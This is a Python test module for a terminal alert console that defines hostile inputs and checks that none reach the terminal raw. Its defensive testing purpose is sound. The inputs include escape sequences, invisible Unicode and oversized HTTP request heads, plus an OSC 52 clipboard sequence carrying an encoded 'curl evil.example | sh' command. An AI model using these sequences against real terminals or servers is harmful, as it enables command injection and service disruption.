"""The hostile corpus: text an attacker who controls alert content (or a broken service) sends,
and the check that none of it reaches a terminal stream raw."""

from __future__ import annotations

import base64
import re

OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x1b\\"
OSC_TITLE = "\x1b]2;you have been pwned\x1b\\"
SGR_RED = "\x1b[31m"
C1_CSI = "\x9b2J"
NEL = "a\x85b"
MARKUP = "[bold red]x[/]"
LINK = "[link=http://x.example]y[/link]"
RLO = "\u202eevil"
LINE_SEPARATOR = "line\u2028next\u2029para"
ZERO_WIDTH = "zero\u200bwidth\u200c\u200d\ufeff\u2060"
COMBINING = "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309alg\u0336o"
WIDE = "🚨🔥 ＷＩＤＥ 漢字"
BRACES = "{oops}"
BELL = "ding\x07"
TAGS = "\U000e0041\U000e0042 invisible tag letters"

CORPUS: tuple[str, ...] = (
    OSC52,
    OSC_TITLE,
    SGR_RED,
    C1_CSI,
    NEL,
    MARKUP,
    LINK,
    RLO,
    LINE_SEPARATOR,
    ZERO_WIDTH,
    COMBINING,
    WIDE,
    BRACES,
    BELL,
    TAGS,
)

# Everything at once, under the service's 130-character message limit.
SHORT = f"{OSC52[:20]}\x1b\\ {SGR_RED}r {C1_CSI} {NEL} {MARKUP} {RLO} \u2028 \u200b {BRACES}\x07"
ALL = " | ".join(CORPUS)

# Raw sequences from the corpus that must never appear in any output, verbatim.
RAW_SEQUENCES = ("\x1b]", "\x1b[31m", "\x9b", "\x85", "\x07", "\u202e", "\u2028", "\u2029")

# What Textual itself writes: CSI sequences (SGR colours, cursor moves). Nothing else may
# carry an ESC, and no other control, separator or direction character may appear raw.
_TEXTUAL_CSI = re.compile(r"\x1b\[[0-9;:?]*[A-Za-z]")
_FORBIDDEN = re.compile(
    "[\x00-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069"
    "\ufeff\U000e0000-\U000e007f\ud800-\udfff]"
)


def raw_controls(stream: str) -> list[str]:
    """Every raw control, separator or direction character in ``stream`` that Textual's own
    CSI sequences do not explain, and every raw corpus sequence found verbatim."""
    found = [s for s in RAW_SEQUENCES if s in stream]
    # Textual ends each screen line with a newline before the next cursor move.
    rest = _TEXTUAL_CSI.sub("", stream).replace("\n", "")
    found += sorted({f"U+{ord(c):04X}" for c in _FORBIDDEN.findall(rest)})
    return found


def text_controls(text: str, *, multiline: bool = True) -> list[str]:
    """The same check for plain text that should hold no escape sequence at all (logs, the
    journal's values, crash files): newlines allowed when ``multiline``."""
    allowed = {"\n", "\t"} if multiline else set()
    return sorted({f"U+{ord(c):04X}" for c in _FORBIDDEN.findall(text) if c not in allowed})


# ---------------------------------------------------------------------- requests
# What a client of `alert-console serve` can send before its key is checked: heads of
# requests, raw. Each of the bounded ones is over one of the server's limits.
HALF_OPEN_HEAD = b"GET /?key=x HTTP/1.1\r\n"  # and never the rest
BOUNDED_HEADS: dict[str, bytes] = {
    "a 9,000-byte URL": b"GET /?key=" + b"k" * 9000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    "40 headers": b"GET / HTTP/1.1\r\nHost: x\r\n"
    + b"".join(b"X-Filler-%d: y\r\n" % i for i in range(40))
    + b"\r\n",
    "a 10,000-byte cookie": b"GET / HTTP/1.1\r\nHost: x\r\nCookie: "
    + b"a=b; " * 2000
    + b"\r\n\r\n",
    "a header without end": b"GET / HTTP/1.1\r\nHost: x\r\nX-Endless: " + b"a" * 100_000,
    "controls in the URL": b"GET /" + OSC_TITLE.encode() + b" HTTP/1.1\r\nHost: x\r\n\r\n",
}
